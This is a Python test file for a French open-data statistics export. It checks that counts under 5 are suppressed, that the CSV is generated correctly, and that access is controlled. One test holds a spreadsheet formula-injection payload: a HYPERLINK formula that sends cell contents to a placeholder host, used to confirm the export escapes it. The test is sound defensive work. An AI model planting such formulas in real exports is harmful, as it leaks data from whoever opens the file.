"""Secret statistique des données ouvertes : aucune case publiée sous 5."""

import csv
import io
import random

import pytest
from django.urls import reverse

from guichet.statistiques import agregation, exports, secret
from tests.comptes.conftest import connecter
from tests.comptes.factories import HabilitationFactory, UtilisateurFactory
from tests.statistiques.factories import a_paris, accompagnements_au_hasard

GROUPES = [["r1", "r2", "r3"], ["c1", "c2"]]


def ligne(cle, r, c, mois="2026-01", operateur="caf"):
    assert sum(r) == sum(c)
    return {
        "cle": cle,
        "mois": mois,
        "operateur": operateur,
        "total": sum(r),
        **dict(zip(["r1", "r2", "r3"], r, strict=True)),
        **dict(zip(["c1", "c2"], c, strict=True)),
    }


def test_cases_sous_le_seuil_masquees_et_secondaire_dans_la_ligne():
    lignes = secret.masquer([ligne("a", [40, 3, 7], [45, 5]), ligne("b", [2, 1, 0], [3, 0])], "total", GROUPES)
    a, b = lignes
    # r2 = 3 masquée ; seule, elle se déduirait du total : la plus petite autre case (r3 = 7) l'est aussi.
    assert (a["r1"], a["r2"], a["r3"]) == (40, None, None)
    assert a["masquees"] == ["r2", "r3"]
    assert (a["c1"], a["c2"]) == (45, 5)
    # Total sous 5 : ligne entière.
    assert b["masquees"] == [secret.LIGNE]
    assert all(b[c] is None for c in ["total", "r1", "r2", "r3", "c1", "c2"])


def test_masques_d_un_groupe_somment_au_moins_au_seuil():
    (a,) = secret.masquer([ligne("a", [20, 1, 1], [22, 0])], "total", GROUPES)
    # r2 + r3 = 2 < 5 : r1 masquée aussi ; c2 = 0 masquée, seule : c1 l'est aussi.
    assert a["masquees"] == ["r1", "r2", "r3", "c1", "c2"]
    assert a["total"] == 22


def test_marge_entre_lignes():
    lignes = [ligne("a", [30, 5, 5], [35, 5]), ligne("b", [3, 0, 0], [3, 0]), ligne("c", [8, 6, 6], [10, 10])]
    a, b, c = secret.masquer(lignes, "total", GROUPES, marges=[("mois", "operateur")])
    # b masquée (3) : le total national du mois moins a et c la redonnerait ; c, la plus petite, l'est aussi.
    assert b["masquees"] == [secret.LIGNE]
    assert c["masquees"] == [secret.LIGNE]
    assert a["total"] == 40


def test_aucune_case_publiee_sous_cinq_au_hasard():
    hasard = random.Random(7)
    lignes = []
    for i in range(300):
        r = [hasard.choice([0, 1, 2, 3, 4, 5, 6, 10, 50]) for _ in range(3)]
        c1 = hasard.randint(0, sum(r))
        lignes.append(ligne(str(i), r, [c1, sum(r) - c1], mois=f"2026-0{1 + i % 3}", operateur=f"o{i % 4}"))
    resultat = secret.masquer(lignes, "total", GROUPES, marges=[("mois", "operateur")])
    for brute, publiee in zip(lignes, resultat, strict=True):
        for colonne in ["total", "r1", "r2", "r3", "c1", "c2"]:
            assert publiee[colonne] is None or publiee[colonne] >= 5
            assert (publiee[colonne] is None) == (colonne in publiee["masquees"] or secret.LIGNE in publiee["masquees"])
        if publiee["total"] is not None:
            for groupe in GROUPES:
                caches = [brute[c] for c in groupe if publiee[c] is None]
                assert not caches or sum(caches) >= 5
    paquets = {}
    for brute, publiee in zip(lignes, resultat, strict=True):
        if publiee["total"] is None:
            paquets.setdefault((brute["mois"], brute["operateur"]), []).append(brute["total"])
    assert all(sum(totaux) >= 5 for totaux in paquets.values())
    assert any(p["masquees"] for p in resultat) and any(not p["masquees"] for p in resultat)


@pytest.mark.django_db
def test_fichier_des_donnees_ouvertes(client, reseau):
    accompagnements_au_hasard([reseau.a1, reseau.a2], a_paris(2026, 1, 1, 0, 0), 31, 400, operateurs=[reseau.caf])
    accompagnements_au_hasard([reseau.b], a_paris(2026, 1, 1, 0, 0), 31, 3, operateurs=[reseau.titres], graine=3)
    accompagnements_au_hasard([reseau.a1], a_paris(2026, 1, 1, 0, 0), 31, 60, operateurs=[reseau.msa], graine=4)
    agregation.actualiser()
    conseiller = HabilitationFactory(role="conseiller", structure=reseau.a1).utilisateur
    connecter(client, conseiller)
    reponse = client.get(reverse("statistiques:donnees_ouvertes"), {"annee": "2026"})
    assert reponse.status_code == 200
    lignes = list(csv.DictReader(io.StringIO(reponse.content.decode())))
    assert {(ligne["code_departement"], ligne["code_operateur"]) for ligne in lignes} == {
        ("01", "caf"),
        ("02", "france-titres"),
        ("01", "msa"),
    }
    for ligne in lignes:
        for colonne in exports.COLONNES_OUVERTES:
            assert ligne[colonne] == "" or int(ligne[colonne]) >= 5
            assert (ligne[colonne] == "") == (
                colonne in ligne["secret_statistique"].split() or ligne["secret_statistique"] == "ligne"
            )
    titres = next(ligne for ligne in lignes if ligne["code_operateur"] == "france-titres")
    assert titres["secret_statistique"] == "ligne" and titres["nombre"] == ""
    caf = next(ligne for ligne in lignes if ligne["code_operateur"] == "caf")
    assert caf["nombre"] == "400"
    # Sans aucun tableau : refusé.
    connecter(client, HabilitationFactory(role="auditeur", departement=None).utilisateur)
    assert client.get(reverse("statistiques:donnees_ouvertes")).status_code == 200
    connecter(client, UtilisateurFactory())
    assert client.get(reverse("statistiques:donnees_ouvertes")).status_code == 403


def test_donnees_ouvertes_un_nom_en_formule_reste_du_texte(client, reseau):
    piege = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
    reseau.caf.nom = piege
    reseau.caf.save()
    accompagnements_au_hasard([reseau.a1, reseau.a2], a_paris(2026, 1, 1, 0, 0), 31, 100, operateurs=[reseau.caf])
    agregation.actualiser()
    connecter(client, HabilitationFactory(role="conseiller", structure=reseau.a1).utilisateur)
    reponse = client.get(reverse("statistiques:donnees_ouvertes"), {"annee": "2026"})
    lignes = list(csv.DictReader(io.StringIO(reponse.content.decode())))
    assert lignes and {ligne["operateur"] for ligne in lignes} == {"'" + piege}


@pytest.mark.parametrize("annee", ["²⁰²⁶", "9" * 5000])
def test_donnees_ouvertes_annee_illisible_ignoree(client, reseau, annee):
    connecter(client, HabilitationFactory(role="conseiller", structure=reseau.a1).utilisateur)
    reponse = client.get(reverse("statistiques:donnees_ouvertes"), {"annee": annee})
    assert reponse.status_code == 200 and "france-services-activite-2" in reponse["Content-Disposition"]
